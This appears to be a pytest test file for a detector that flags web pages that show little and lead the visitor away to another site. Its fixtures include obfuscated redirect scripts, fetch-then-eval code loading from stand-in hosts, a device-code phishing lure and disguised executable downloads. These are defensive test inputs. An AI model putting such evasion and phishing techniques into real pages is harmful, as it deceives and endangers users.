"""Pages that show nothing themselves and lead away."""

from __future__ import annotations

import pytest

from gateway.extract.bounded import LimitReached
from gateway.extract.effort import Stage
from gateway.extract.page import doors
from gateway.extract.page.code import active
from gateway.extract.page.html import parse
from gateway.extract.page.played import play
from gateway.model.content import Observation

WORDS = "<p>" + "There is something to read here. " * 40
FRAME = "<iframe src='https://h.example/l' style='width:100%;height:100%'></iframe>"


def acts(source: str) -> dict[str, str]:
    return {i.code: i.detail for i in active(parse(source), source, play(source, Stage())) if isinstance(i, Observation)}


def read(source: str) -> dict[str, str]:
    """Of a page that is not played."""
    return {i.code: i.detail for i in active(parse(source), source) if isinstance(i, Observation)}


def seen(source: str) -> str:
    return acts(source).get("HTML-DOOR", "")


@pytest.mark.parametrize("source", [
    "<meta http-equiv=refresh content='0;url=https://h.example/'>", "<script>location.href='https://h.example/#'+x</script>",
    "<script>window.location.replace(\"//h.example\")</script>",
    "<form id=f action='https://h.example/s'></form><script>f.submit()</script>", "<script src='https://h.example/a.js'></script>",
    "<script src='https://cdn.jsdelivr.net/npm/chart.js-x@1'></script>", "<script src='https://cdn.jsdelivr.net/gh/chart.js/a.js'></script>",
    "<script src='https://unpkg.com/chart.js'></script><script src='https://h.example/a.js'></script>",
    "<script>fetch('https://h.example/a').then(r=>r.text()).then(t=>document.write(t))</script>",
    "<script>new WebSocket('wss://h.example').onmessage=e=>document.write(e.data)</script>",
    "<script type=module>import 'https://h.example/a.mjs'</script>", "<meta content='0;url=https:h.example' http-equiv=\"Refresh\">",
    "<script>self['location']['href']='https://h.example/'</script>", "<script>var u='https://h.example';location=u</script>",
    "<script>location='elpmaxe.h//:sptth'.split('').reverse().join('')</script>", "<a id=x href='//h.example'></a><script>x.click()</script>",
    "<script>document.write('<iframe src=https://h.example>')</script>", "<title>" + "Please wait. " * 30 + "</title><script>open('a');top.location="
    "'https://h.example'</script>", "<p>You are being redirected.</p>" * 12 + "<script>location.href='https://h.example/'</script>",
    "<script>with(location)href='https://h.example/'</script>", "<script>location.host='h.example'</script>",
    "<script>a=document.createElement('a');a.href='\\x68ttps://h.example';a.click()</script>", "<meta/http-equiv=refresh/content='0;//h.example'>",
    "<script>window['loc'+'ation'].replace('hXXps://h.example'.replace('XX','tt'))</script>", "<!--https://h.example--><script>location=x</script>",
    "<meta http-equiv='&#114;efresh' content='0, &#104;ttps://h.example'>", "<script>document.write('<scr'+'ipt src='+atob(a)+'>')</script>",
    "<base href='https://h.example/'><form action=p id=f></form><script>f.submit()</script>", "<script>s.src='//h.example/x'</script>", FRAME,
    "<script>eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://3.4/\\'',10,5,'location|href|https|h|example'.split('|'),0,{}))</script>",
])
def test_doors(source):
    assert "HTML-DOOR" in acts(source)
    assert "HTML-DOOR" not in read(source + WORDS)


@pytest.mark.parametrize("source", [
    "<script>window.location.replace('com/x/package-summary.html')</script>", "<meta http-equiv=refresh content='0;url=index2.html'>",
    "<noscript><meta http-equiv=refresh content='0; url=https://h.example/?noscript=1'></noscript>",
    "<script src='https://h.example/charts.js'></script><script>draw(" + "1.5, " * 100 + "2)</script>",
    "<base href='https://a.example/'><meta http-equiv=refresh content=300>", WORDS + "<a href='https://a.example/setup.exe'>Setup</a>",
    "<a href='https://a.example/a.pdf'>a</a>", "<a href='https://exe.example'>a</a>", "<a href='https://a.example/?f=a.exe'>a</a>",
    "<script>f=document.createElement('iframe');f.src='https://a.example/';f.style.cssText='position:fixed;width:100%;height:100%;display:none';"
    "document.body.append(f)</script><p>" + "Something to read. " * 20,
    "<script src='a.js'></script>", "<form action='https://h.example/s'></form>", "<iframe src='https://h.example/' width=560></iframe>",
    "<frameset><frame src='toc.html'></frameset><script>if (top.page) top.classFrame.location = top.page;</script>",
    "<p>" + "words to read " * 9 + "<button onclick=\"location.href='https://h.example/'\">Open</button>",
    "<script src='https://h.example/a.js'></script><table>" + "<tr><td>1234.5</td><td>77</td></tr>" * 30 + "</table>",
    "<!DOCTYPE html PUBLIC '' 'http://www.w3.org/TR/html4/frameset.dtd'><script>p=''+window.location.search;top.f.location=p</script>",
    "<form action='https://h.example/s'><input type=submit></form><script>function go(){document.forms[0].submit()}</script>",
    "<form action='https://h.example/s'><input type=password></form><script>f.submit()</script>",
    "<script>document.write(unescape(\"%3Cscript src='\" + (document.location.protocol == \"https:\" ? \"https://sb\" : \"http://b\")))</script>",
    "<script>j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i</script>",
    "<p>新聞</p>" * 61 + "<script>location=u;v='https://h.example'</script>",
    "<script>data=[{u:'https://h.example/a'}];o.innerHTML=data[0].u</script>", "<script>" + "function(){return 1};" * 50 + "location=u;v='https://h'</script>",
    "<script src='https://cdn.jsdelivr.net/npm/chart.js@4'></script><canvas id=c></canvas><script>new Chart(c,{data:[1,2]})</script>",
    "<pre>graph TD; A-->B</pre><script type=module>import m from 'https://cdn.jsdelivr.net/npm/mermaid@10/dist/mermaid.esm.min.mjs';m.run()</script>",
    "<script type=module>import * as T from 'https://unpkg.com/three@0.160/a.js';const s=new T.Scene();s.add(new T.Mesh(new T.Box(1)))</script>",
    "<div id=m></div><script>function f(){new google.maps.Map(m)}</script><script async src='https://maps.googleapis.com/maps/api/js?callback=f'></script>",
    "<script>if (location.hash == 'x') location.hash = ''; location = '#top'; location.replace('a.html')</script>", "<a href='https://h.example/'>x</a>",
])
def test_other_pages_are_no_doors(source):
    assert "HTML-DOOR" not in acts(source)


def test_words_in_the_colour_of_the_ground_are_nothing_to_read():
    filler, leaves = "lorem ipsum dolor sit amet " * 40, "<script>location.href='https://h.invalid/'</script>"
    assert "HTML-DOOR" in acts(f"<p style='color:#fff'>{filler}</p>{leaves}")
    assert "HTML-DOOR" not in acts(f"<p style='color:#333'>{filler}</p>{leaves}")
    assert "HTML-DOOR" not in acts(f"<body style='background:#003'><p style='color:#fff'>{filler}</p>{leaves}")


@pytest.mark.parametrize("script", [
    "location=['h','t','t','p://h.invalid'].reduce((a,b)=>a+b)", "location=[[1,'//h.invalid'],[0,'https:']].sort().map(x=>x[1]).join('')",
    "location=String.fromCodePoint(0x2f,0x2f,0x68)", "location=new TextDecoder().decode(new Uint8Array([47,47,104]))",
    "Promise.resolve('aHR0cHM6Ly94').then(atob).then(u=>open(u,'_top'))", "<![CDATA[loc]]>\n<![CDATA[ation='https://h.invalid']]>"])
def test_ways_out_written_in_codes(script):
    assert acts(f"<script>{script}</script>")["HTML-DOOR"] == "leaves for another page"


def test_scripts_in_addresses_are_scripts_of_the_page():
    for source in ("<script>import('data:text/javascript,location=`https://h.invalid/`')</script>",
                   "<script type=importmap>{\"imports\":{\"x\":\"data:application/javascript;base64,bG9jYXRpb249J2h0dHBzOi8vaC5pbnZhbGlkLyc=\"}}"
                   "</script><script type=module>import 'x'</script>"):
        assert acts(source)["HTML-DOOR"] == "leaves for another page"
    assert "HTML-DOOR" in acts("<script type=importmap>{\"imports\": {\"x\": \"https://h.invalid/m.js\"}}</script><script type=module>import 'x'</script>")


def test_links_that_a_script_presses():
    assert "HTML-DOOR" in acts("<a id=l href='https://h.invalid/'></a><script>l.dispatchEvent(new MouseEvent('click'))</script>")
    assert "HTML-DOOR" not in acts("<script>window.dispatchEvent(new Event('resize'))</script>")
    assert "HTML-DOOR" not in acts("<script>location = location.pathname.split('/').slice(0, -1).join('/')</script>")


@pytest.mark.parametrize("page", [
    "<applet code=A.class archive='http://h.invalid/a.jar'></applet>", "<object classid='clsid:1' codebase='http://h.invalid/a.cab'></object>",
    "<style>b{width:expression(location='https://h.invalid')}</style>"])
def test_programs_of_old_browsers(page):
    assert "HTML-DOOR" in acts(page)
    assert "HTML-DOOR" not in acts(WORDS + page)


@pytest.mark.parametrize(("source", "way"), [
    (WORDS + "<script>setTimeout(()=>{location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')},9)</script>", "leaves for another page"),
    (WORDS + "<form id=f></form><script>f.action=atob('aHR0cHM6Ly9hLmV4YW1wbGUv');f['sub'+'mit']()</script>", "leads on by itself"),
    ("<p>Wait</p><form id=f action=https://a.example/></form><script>f['sub'+'mit']()</script>", "leads on by itself"),
    ("<script>location='ms-x:y'</script>", "calls a program"),
    (WORDS + "<iframe src='ms-excel:ofe|u|https://a.example/b'></iframe><a href='https://a.example/'>a</a>", "calls a program"),
    ("<p>Wait</p><script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
     "is filled by another page"),
    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(eval)</script>", "gets its code from elsewhere"),
    ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(r=>r.text()).then(eval)</script>", "leaves for another page"),
    (WORDS[:400] + "<button onclick=\"location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">Open</button>", "leads on to an address that it hides"),
    ("<p>Wait</p><script>for(i=0;i<1e10;i++);location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')</script>", "is busy for longer than any page of its size"),
    ("<p>Wait</p><script>for(i=0;i<2000;i++)setTimeout(()=>0,i)</script>", "is busy for longer than any page of its size"),
    ("<p>Wait</p><script>for(i=0;i<40000;i++)document.createElement('p')</script>", "is busy for longer than any page of its size"),
    (WORDS + "<script>crypto.subtle.decrypt({},k,new Uint8Array(99))</script>", "deciphers what it holds"),
    (WORDS + "<iframe src='https://a.example/' style='position:fixed;inset:0;width:100%;height:100%'></iframe>", "is covered by another page"),
    (WORDS + "<script>f=document.createElement('iframe');f.src='https://a.example/';f.style.position='fixed';f.style.width='100vw';"
     "f.height='100%';document.body.append(f)</script>", "is covered by another page"),
    ("<base href='https://a.example/'><meta http-equiv=refresh content='0; url=login'>", "turns into another page"),
    ("<base href='https://a.example/'><script src='a.js'></script>", "gets its code from elsewhere"),
    ("<script>eval(decodeURIComponent(location.hash.slice(1)))</script>", "gets its code from elsewhere"),
    ("<script>document.body.innerHTML=decodeURIComponent(location.search)</script>", "gets its code from elsewhere"),
    ("<script>var s=document.createElement('script');s.src=name;document.body.append(s)</script>", "gets its code from elsewhere"),
    ("<frameset><frame src='https://a.example/login'></frameset>", "is filled by another page"),
    ("<p>Your file</p><a href='https://a.example/d/Invoice.exe' download>Get it</a>", "offers a program"),
    ("<svg><a xlink:href='https://a.example/a.iso?x=1'><text>Open</text></a></svg>", "offers a program"),
    ("<p>Wait</p><div><body onfocus=\"location='https://a.example/'\"></div>", "leaves for another page"),
])
def test_played_pages_that_lead_away(source, way):
    assert seen(source) == way


@pytest.mark.parametrize("source", [
    WORDS + "<script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
    "<script src='https://h.example/l.js'></script><script>L.map('m').open('https://h.example/{z}');draw([" + "1.5, " * 100 + "2])</script>",
    WORDS + "<script>for(;;);</script>", "<canvas id=c></canvas><script>(function f(){requestAnimationFrame(f)})()</script>",
    "<p id=t></p><script>(function f(){t.textContent=new Date();setTimeout(f,1000)})()</script>",
    WORDS + "<script>if(parent.frames.length==0)top.location.href='https://a.example/'</script>",
    WORDS + "<form id=f action=https://a.example/></form><script>f.submit()</script>",
    "<script>if(/Android/.test(navigator.userAgent))location.href='https://m.example/'</script>",
    "<p>Hi</p><script>var s=document.createElement('script');s.src='https://www.google-analytics.com/analytics.js';document.head.append(s)</script>",
    "<button onclick=\"location='https://a.example/'\">Go</button>",
    WORDS + "<iframe src='data:text/plain,x'></iframe><iframe src='cid:a'></iframe><iframe src='mailto:a'></iframe><a href='ms-word:ofe|u|https://a.example/'>x</a>",
    WORDS + "<button onclick=\"location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">Go</button>",
    WORDS[:400] + "<button onclick=\"location='https://'+navigator.language.slice(0,2)+'.wiki.example/'\">Go</button>",
    WORDS + "<button onclick='crypto.subtle.decrypt({},k,new Uint8Array(99))'>Go</button>",
    "<p id=v></p><script>v.textContent=location.hash;document.title=location.search</script>",
    "<base href='https://a.example/'><p>Hi</p><img src='a.png'>", "<frameset><frame src='sheet001.htm'></frameset>",
    "<script>document.write('" + "There is something to read here. " * 9 + "<img src=https://a.example/a.png>')</script>",
])
def test_played_pages_that_do_not(source):
    assert seen(source) == ""


GIVES = "navigator.clipboard.writeText(c.textContent);{}"
CODE = "<p>Enter this code: <b id=c>HQD2J8S5M</b></p><button onclick=\"{}\">Copy and continue</button>"


def test_codes_for_another_page():
    assert seen(CODE.format(GIVES.format("location.href='https://h.example/device'"))) == "gives its reader a code for another page"
    assert seen(CODE.format(GIVES.format("window.open('https://h.example/device')")))
    apart = CODE.format(GIVES.format("")) + "<a href='https://h.example/shop'>To the shop</a><button onclick=\"x.textContent='ok'\">Close</button>"
    assert seen(apart) == "" and seen(WORDS + CODE.format(GIVES.format("location.href='https://h.example/device'"))) == ""


def test_neighbours_on_a_host_of_many_are_strangers():
    page = "<p>Your file.</p><a href='https://help.{0}/'>Help</a><button onclick=\"location='htt'+'ps://lure.'+'{0}/'\">Open</button>"
    assert seen(page.format("workers.dev")) == seen(page.format("web.core.windows.net")) == "leads on to an address that it hides"
    assert seen(page.format("firm.example")) == ""


def test_more_meta_elements_than_are_looked_at_are_told(monkeypatch):
    monkeypatch.setattr(doors, "TRIES", 5)
    page = '<meta name="x">' * 6 + '<meta http-equiv="refresh" content="0; url=https://h.example/">'
    with pytest.raises(LimitReached, match="meta"):
        seen(page)


FIELD = "<input type=password>"


@pytest.mark.parametrize("source", [
    f"{FIELD}<script>location='https://a.example/'</script>", f"{FIELD}<meta http-equiv=refresh content='0;url=https://a.example/'>",
    f"{WORDS}{FIELD}<iframe src='https://a.example/' style='position:fixed;inset:0;width:100%;height:100%'></iframe>",
    *(f"{hidden}{FRAME}" for hidden in ("<!-- <input type=password> -->", "<template><input type=password></template>",
                                         "<div style='display:none'><input type=password></div>", "<input type=password hidden>",
                                         "<noscript><input type=password></noscript>", "<input style='left:-999px' type=password>")),
])
def test_a_field_that_nobody_meets_excuses_no_door(source):
    assert seen(source)


@pytest.mark.parametrize("source", [f"{FIELD}{FRAME}", f"{FIELD}<script src='https://h.example/a.js'></script>",
                                    f"<div hidden></div><label>Password {FIELD}</label>{FRAME}"])
def test_who_is_asked_has_something_to_do_first(source):
    assert not seen(source)
